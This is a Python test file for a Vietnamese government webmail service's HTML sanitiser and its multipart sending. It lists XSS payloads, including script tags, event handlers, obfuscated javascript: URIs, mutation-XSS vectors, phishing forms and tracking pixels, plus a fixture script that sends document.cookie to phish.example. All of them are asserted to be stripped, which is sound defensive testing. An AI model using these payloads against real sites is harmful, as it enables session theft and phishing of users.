"""HTML bodies: GetMessage.html_body sanitised for the web client (hostile markup of every
kind removed, ordinary Vietnamese mail formatting kept), SendMessage.html_body sent as
multipart/alternative beside its text."""

from __future__ import annotations

import asyncio
import email
import smtplib
from collections.abc import AsyncIterator
from email import policy
from pathlib import Path

import pytest

from lgsp.api.mail.v1 import mail_pb2 as pb
from services.mail.adapters.store import MailStore
from services.mail.domain.html import sanitize
from tests.services.mail.env import HEALTH, JUSTICE, MailEnv, mail_env

A = '<a rel="noopener noreferrer">'  # a link that lost its href
HOSTILE = [
    ("<p>a<script>alert(1)</script></p>", "<p>a</p>"),
    ("<p onclick='x()' onmouseover=y()>a</p>", "<p>a</p>"),
    ('<img src="x" onerror="alert(1)">', "<img>"),
    ('<a href="javascript:alert(1)">a</a>', f'{A}a</a>'),
    ('<a href="JaVaScRiPt:alert(1)">a</a>', f'{A}a</a>'),
    ('<a href="jav&#x09;ascript:alert(1)">a</a>', f'{A}a</a>'),
    ('<a href="vbscript:msgbox(1)">a</a>', f'{A}a</a>'),
    ('<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">a</a>', f'{A}a</a>'),
    ('<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', "<img>"),
    ('<svg onload="alert(1)"><a xlink:href="javascript:alert(1)">x</a></svg>b', "b"),
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", ""),
    # Browsers break out of svg at <img> (html5ever too): the img stays, without its handler.
    ('<svg><style><img src=x onerror="alert(1)"></style></svg>c', "<img>c"),
    ('<div style="width: expression(alert(1))">e</div>', "<div>e</div>"),
    ('<div style="background:url(javascript:alert(1))">e</div>', "<div>e</div>"),
    ('<p style="color: red; background-image: url(https://t.example/p.gif)">e</p>', "<p>e</p>"),
    ('<p style="color:red;position:fixed;top:0">z</p>', '<p style="color:red">z</p>'),
    ('<div style="color:\\72 ed">e</div>', "<div>e</div>"),
    ("<style>@import url(https://t.example/x.css)</style><p>x</p>", "<p>x</p>"),
    ('<iframe src="https://t.example/"></iframe>after', "after"),
    ('<object data="x.swf"></object><embed src="x.swf">o', "o"),
    ('<form action="https://phish.example/"><input name="password"></form>', ""),
    ('<meta http-equiv="refresh" content="0;url=https://phish.example/">m', "m"),
    ('<base href="https://phish.example/"><a href="/login">l</a>', f"{A}l</a>"),  # relative: no
    ("<!--[if gte mso 9]><script>alert(1)</script><![endif]-->k", "k"),
    ('<img src="https://t.example/p?id=4" width="1" height="1">', '<img height="1" width="1">'),
    ('<a href="https://dvc.gov.vn/" target="_blank">d</a>', '<a href="https://dvc.gov.vn/" '
     'rel="noopener noreferrer">d</a>'),
]  # fmt: skip


@pytest.mark.parametrize(("html", "safe"), HOSTILE)
def test_hostile_html_is_neutralised(html: str, safe: str) -> None:
    assert sanitize(html) == safe


# As a Vietnamese official's Outlook sends it: Word styles, a table, a remote logo, a
# tracking pixel, an inline image by cid, a link, and a script a forwarder let through.
VIETNAMESE_HTML = """<html><head><meta charset="utf-8">
<style>p.MsoNormal { margin: 0; font-family: "Times New Roman"; }</style></head>
<body lang="VI">
<p class="MsoNormal"><img src="https://congdoan.example/logo.png" alt="Logo Công đoàn"></p>
<p class="MsoNormal" style="font-family: 'Times New Roman'; font-size: 13pt">Kính gửi: Các
phòng, ban chuyên môn thuộc Sở Y tế</p>
<p style="text-align: justify; color: #1f3864">Thực hiện Kế hoạch số 123/KH-UBND ngày
05/3/2026 của Ủy ban nhân dân tỉnh về <b>cải cách hành chính</b>, đề nghị các đơn vị báo
cáo kết quả trước ngày <u>15/3/2026</u>.</p>
<table border="1" cellpadding="4" style="border-collapse: collapse">
<tr><th>STT</th><th>Đơn vị</th><th>Hạn nộp</th></tr>
<tr><td>1</td><td>Phòng Tổ chức cán bộ</td><td>15/3/2026</td></tr>
</table>
<p>Chi tiết xem tại <a href="https://dichvucong.hatinh.gov.vn/">Cổng dịch vụ công</a>.</p>
<p><img src="cid:chuky@syt.hatinh.gov.vn" alt="Chữ ký"></p>
<script>document.location = "https://phish.example/?c=" + document.cookie</script>
<img src="https://t.example/open?u=binhtt" width="1" height="1">
<p>Trân trọng./.</p></body></html>"""


@pytest.fixture
async def env(tmp_path: Path) -> AsyncIterator[MailEnv]:
    async with mail_env(tmp_path) as e:
        yield e


async def newest(env: MailEnv, address: str, user_id: str, agency: str) -> pb.MailMessage:
    md = env.md(user_id, agency)
    listed = await env.stub().ListMessages(
        pb.ListMessagesRequest(mailbox_address=address), metadata=md
    )
    request = pb.GetMessageRequest(mailbox_address=address, id=listed.messages[0].id)
    return (await env.stub().GetMessage(request, metadata=md)).message


async def test_a_real_vietnamese_html_mail_reads_safe_and_whole(env: MailEnv) -> None:
    binh = env.add_official("u-binh", "Trần Thị Bình", HEALTH)
    msg = email.message.EmailMessage()
    msg["From"] = "Công đoàn ngành Y tế <congdoan@example.org>"
    msg["To"] = binh
    msg["Subject"] = "Báo cáo kết quả cải cách hành chính quý I"
    msg.set_content("Kính gửi: Các phòng, ban chuyên môn thuộc Sở Y tế")
    msg.add_alternative(VIETNAMESE_HTML, subtype="html")

    def send() -> None:
        with smtplib.SMTP("127.0.0.1", env.ports["inbound"], timeout=10) as s:
            s.send_message(msg)

    await asyncio.to_thread(send)
    got = await newest(env, binh, "u-binh", HEALTH)
    html = got.html_body
    for kept in (
        "Kính gửi: Các\nphòng, ban chuyên môn thuộc Sở Y tế",
        "<b>cải cách hành chính</b>",
        "<u>15/3/2026</u>",
        "<th>Đơn vị</th>",
        "<td>Phòng Tổ chức cán bộ</td>",
        'style="text-align:justify;color:#1f3864"',
        'href="https://dichvucong.hatinh.gov.vn/" rel="noopener noreferrer"',
        '<img src="cid:chuky@syt.hatinh.gov.vn" alt="Chữ ký">',
        'alt="Logo Công đoàn"',
        "Trân trọng./.",
    ):
        assert kept in html, kept
    for gone in ("<script", "document.cookie", "https://congdoan.example/logo.png", "t.example",
                 "<style", "MsoNormal {", "<html", "<head"):  # fmt: skip
        assert gone not in html, gone
    assert got.text_body.startswith("Kính gửi: Các phòng, ban chuyên môn")


async def test_send_html_goes_as_multipart_alternative(env: MailEnv) -> None:
    an = env.add_official("u-an", "Nguyễn Văn An", JUSTICE)
    binh = env.add_official("u-binh", "Trần Thị Bình", HEALTH)
    stub = env.stub()
    sent = await stub.SendMessage(
        pb.SendMessageRequest(
            mailbox_address=an,
            to=[pb.Address(address=binh)],
            subject="Giấy mời họp",
            text_body="Kính mời chị dự họp lúc 8 giờ.",
            html_body='<p>Kính mời chị dự họp lúc <b>8 giờ</b>.</p><img src="https://t.example/x">',
        ),
        metadata=env.md("u-an"),
    )
    with env.app.uow() as uow:
        store = MailStore(uow.session)
        stored = store.message(an, sent.message.id)
        assert stored is not None
        raw = store.blob(stored.blob_sha256) or b""
    msg = email.message_from_bytes(raw, policy=policy.default)
    assert msg.get_content_type() == "multipart/alternative"
    assert [p.get_content_type() for p in msg.iter_parts()] == ["text/plain", "text/html"]  # type: ignore[attr-defined]
    got = await newest(env, binh, "u-binh", HEALTH)
    assert got.text_body.strip() == "Kính mời chị dự họp lúc 8 giờ."
    assert got.html_body == "<p>Kính mời chị dự họp lúc <b>8 giờ</b>.</p><img>"

    # HTML only: the text part is made from it, so text-only clients read the same words.
    await stub.SendMessage(
        pb.SendMessageRequest(
            mailbox_address=an,
            to=[pb.Address(address=binh)],
            subject="Chỉ có HTML",
            html_body="<p>Dòng một&nbsp;&amp; hai</p><p>Dòng <i>ba</i></p><script>x()</script>",
        ),
        metadata=env.md("u-an"),
    )
    got = await newest(env, binh, "u-binh", HEALTH)
    assert got.text_body == "Dòng một & hai\nDòng ba\n"
    assert got.html_body == "<p>Dòng một&nbsp;&amp; hai</p><p>Dòng <i>ba</i></p>"


async def test_mail_without_html_has_an_empty_html_body(env: MailEnv) -> None:
    an = env.add_official("u-an", "Nguyễn Văn An", JUSTICE)
    binh = env.add_official("u-binh", "Trần Thị Bình", HEALTH)
    await env.stub().SendMessage(
        pb.SendMessageRequest(
            mailbox_address=an, to=[pb.Address(address=binh)], subject="x", text_body="<b>y</b>"
        ),
        metadata=env.md("u-an"),
    )
    got = await newest(env, binh, "u-binh", HEALTH)
    assert got.html_body == "" and got.text_body.strip() == "<b>y</b>"  # text stays text
